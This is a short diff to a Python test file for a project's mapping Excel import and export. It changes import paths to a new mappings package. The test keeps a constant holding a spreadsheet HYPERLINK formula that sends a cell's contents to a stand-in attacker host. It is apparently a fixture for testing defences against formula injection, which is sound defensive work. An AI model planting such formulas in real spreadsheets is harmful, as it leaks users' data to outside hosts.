@@ -10,9 +10,9 @@ import pandas as pd
 import pytest
 from test_mappings_helpers import CONNECTOR, fill_gc
 
-from econn import correspondences as cor
+from econn.mappings import correspondences as cor
 from econn.cli import main
-from econn.mapping_excel import HEADERS, MappingFileError, export_xlsx, import_xlsx
+from econn.mappings.excel import HEADERS, MappingFileError, export_xlsx, import_xlsx
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
 
